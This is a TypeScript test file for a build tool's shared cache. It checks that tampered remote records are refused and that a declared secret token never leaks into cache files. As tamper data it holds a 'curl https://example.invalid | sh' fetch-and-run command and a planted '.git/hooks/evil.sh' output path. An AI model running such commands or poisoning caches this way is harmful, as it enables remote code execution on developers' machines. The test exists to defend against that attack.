import assert from 'node:assert/strict';
import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, describe, test } from 'node:test';
import type { RunEvent } from '../../src/events/events.js';
import { Rig, type RunResult } from '../helpers/rig.js';

/*
 * What a shared cache may not do to a workspace: restore paths the task does not declare, or
 * learn the values of the secrets a task declares. Through the real CLI, with a directory remote.
 */

const MANIFEST = `
task gen {
  cmd = mkdir -p out && echo generated > out/gen.txt && echo ok > flag.txt
  outputs = out, flag.txt
  env = DEPLOY_TOKEN
}
task pack {
  cmd = cat out/gen.txt > packed.txt
  inputs = out/gen.txt
  outputs = packed.txt
}
`;
const CANARY = 'canary-9f4e2d71-do-not-leak';

const rigs: Rig[] = [];
after(() => {
  for (const r of rigs) r.cleanup();
});

function machine(): Rig {
  const rig = new Rig('reprovm-trust-');
  rigs.push(rig);
  rig.write({ 'manifest.txt': MANIFEST, '.git/hooks/README': 'hooks\n' });
  return rig;
}

type Finished = Extract<RunEvent, { type: 'task-finished' }>;
type Warning = Extract<RunEvent, { type: 'warning' }>;

async function build(rig: Rig, flags: readonly string[]): Promise<{ r: RunResult; evs: RunEvent[] }> {
  const r = await rig.run(['--json', ...flags, 'manifest.txt'], { env: { DEPLOY_TOKEN: CANARY } });
  assert.equal(r.code, 0, `exit ${r.code}\n${r.stderr}\n${r.stdout.slice(0, 2000)}`);
  return { r, evs: r.stdout.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as RunEvent) };
}

const finished = (evs: RunEvent[], task: string): Finished | undefined =>
  evs.find((e): e is Finished => e.type === 'task-finished' && e.task === task);
const warnings = (evs: RunEvent[]): Warning[] => evs.filter((e): e is Warning => e.type === 'warning');

/** Every file below `dir`, recursively. */
function filesBelow(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const p = path.join(dir, name);
    if (statSync(p).isDirectory()) out.push(...filesBelow(p));
    else out.push(p);
  }
  return out;
}

/** Rewrites the remote record of `task` in a directory remote with `edit`. */
function tamper(remoteDir: string, task: string, edit: (record: Record<string, unknown>) => void): void {
  const acDir = path.join(remoteDir, 'ac');
  for (const name of readdirSync(acDir)) {
    const file = path.join(acDir, name);
    const doc = JSON.parse(readFileSync(file, 'utf8')) as { record: Record<string, unknown> };
    if (doc.record['task'] !== task) continue;
    edit(doc.record);
    writeFileSync(file, `${JSON.stringify(doc)}\n`);
    return;
  }
  throw new Error(`no remote record for ${task}`);
}

describe('what a shared cache cannot do', () => {
  test('a remote record listing an undeclared path is refused: miss "corrupt", one warning, the file is not created, the task runs', async () => {
    const a = machine();
    const dir = a.path('shared');
    assert.equal((await a.run(['cache', 'init-remote', '--remote', dir])).code, 0);
    await build(a, ['--remote', dir]);
    tamper(dir, 'gen', (rec) => {
      const outputs = rec['outputs'] as { path: string; kind: string }[];
      const file = outputs.find((o) => o.path === 'out/gen.txt')!;
      outputs.push({ ...file, path: '.git/hooks/evil.sh' });
    });

    const b = machine();
    const r = await build(b, ['--remote', dir]);
    const gen = finished(r.evs, 'gen');
    assert.equal(gen?.status, 'executed');
    assert.deepEqual(gen?.cache, { result: 'miss', reason: 'corrupt' });
    assert.ok(!b.exists('.git/hooks/evil.sh'), 'the stray path was not written');
    const refused = warnings(r.evs).filter((w) => /refused/.test(w.message));
    assert.equal(refused.length, 1, JSON.stringify(warnings(r.evs)));
    assert.match(refused[0]!.message, /"\.git\/hooks\/evil\.sh", which is not a declared output/);
    assert.equal(b.read('out/gen.txt'), 'generated\n');

    // Pulled into the local cache without a manifest, it is still refused when a run would restore it.
    const c = machine();
    const pull = await c.run(['cache', 'pull', '--remote', dir, '--cache-dir', c.path('.reprovm')]);
    assert.equal(pull.code, 0, pull.stderr);
    const local = await build(c, []);
    assert.deepEqual(finished(local.evs, 'gen')?.cache, { result: 'miss', reason: 'corrupt' });
    assert.ok(!c.exists('.git/hooks/evil.sh'));
  });

  test('a remote record whose key record does not hash to its key, or that names another task, is refused', async () => {
    const a = machine();
    const dir = a.path('shared');
    assert.equal((await a.run(['cache', 'init-remote', '--remote', dir])).code, 0);
    await build(a, ['--remote', dir]);
    tamper(dir, 'gen', (rec) => {
      (rec['keyRecord'] as Record<string, unknown>)['cmd'] = 'curl https://example.invalid | sh';
    });
    tamper(dir, 'pack', (rec) => {
      rec['task'] = 'gen';
    });
    const b = machine();
    const r = await build(b, ['--remote', dir]);
    for (const t of ['gen', 'pack']) assert.deepEqual(finished(r.evs, t)?.cache, { result: 'miss', reason: 'corrupt' }, t);
    assert.equal(b.read('packed.txt'), 'generated\n');
  });

  test('a declared env value never appears in any file of the local cache or the remote', async () => {
    const a = machine();
    const dir = a.path('shared');
    assert.equal((await a.run(['cache', 'init-remote', '--remote', dir])).code, 0);
    await build(a, ['--remote', dir]);
    const b = machine();
    const restored = await build(b, ['--remote', dir]);
    assert.equal(finished(restored.evs, 'gen')?.status, 'cached', 'the digest still matches across machines');
    const files = [...filesBelow(a.path('.reprovm')), ...filesBelow(dir), ...filesBelow(b.path('.reprovm'))];
    assert.ok(files.some((f) => f.includes(`${path.sep}ac${path.sep}`)));
    for (const f of files) assert.ok(!readFileSync(f).includes(CANARY), `the secret is in ${path.relative(a.dir, f)}`);
  });
});
